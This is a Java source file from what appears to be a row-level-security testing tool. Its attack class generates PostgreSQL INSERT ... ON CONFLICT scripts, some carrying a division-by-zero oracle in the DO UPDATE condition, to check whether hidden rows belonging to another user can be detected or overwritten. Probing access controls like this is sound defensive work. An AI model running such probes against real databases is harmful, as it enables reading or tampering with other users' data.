package dev.latchkey.rowsecurity.prover.attack;

import java.util.ArrayList;
import java.util.List;

/** ON CONFLICT in its own name and in the victim's. Postgres before 18.7 evaluates the WHERE of DO UPDATE on hidden rows: a key that begins with the owner never meets one. */
final class ConflictsDoNotMeetRows implements Attack {

    @Override
    public List<Script> scripts(Target target) {
        String twin = target.twin().insert();
        String forged = target.theirs().insert();
        String oracle = target.sql(" where 1 / (length(x.{owner_id}) - length(x.{owner_id})) = 1");
        var scripts = new ArrayList<Script>();
        for (var key : target.table().keys()) {
            String update = " on conflict (%s) do update set %s = excluded.%2$s"
                    .formatted(String.join(", ", key.columns()), target.assignable());
            String into = "insert into " + target.name() + " ";
            scripts.add(Script.other(twin.replace(into, into + "as x ") + update + oracle));
            scripts.add(Script.other(twin + update));
            scripts.add(Script.other(forged.replace(into, into + "as x ") + update + oracle));
            scripts.add(Script.other(forged + update));
        }
        scripts.add(Script.other(twin + " on conflict do nothing"));
        scripts.add(target.copy(" on conflict do nothing"));
        scripts.add(Script.other(forged + " on conflict do nothing"));
        return scripts;
    }
}
